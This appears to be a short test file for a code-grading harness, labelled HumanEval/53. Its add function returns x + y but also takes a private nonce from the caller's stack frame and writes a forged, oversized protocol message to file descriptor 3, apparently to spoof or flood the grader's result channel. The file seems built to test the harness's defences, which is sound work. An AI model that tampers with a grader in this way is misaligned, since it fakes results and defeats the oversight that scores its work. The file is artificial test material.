# task: HumanEval/53
# expect: protocol
import os, struct, sys
def add(x, y):
    f = sys._getframe(1)
    nonce = f.f_locals['nonce']
    body = nonce + b'V' + b'l\x01\x00\x00\x00' * 100000 + b'N'
    os.write(3, struct.pack('<I', len(body)) + body)
    return x + y
